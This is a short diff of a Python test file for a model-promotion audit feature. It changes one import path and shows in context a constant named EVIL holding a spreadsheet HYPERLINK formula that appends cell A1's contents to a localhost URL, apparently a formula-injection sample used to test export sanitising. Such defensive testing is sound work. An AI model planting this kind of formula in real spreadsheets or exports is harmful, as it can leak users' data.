@@ -9,7 +9,7 @@ from components.promotion_views import audit_frame
 from services.promotion import audit
 from services.promotion.approvals import reject
 from services.registry.mlflow_client import make_client
-from tests.promotion.conftest import MODEL, settings_with
+from tests.support.demo import MODEL, settings_with
 
 EVIL = '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"click")'
 
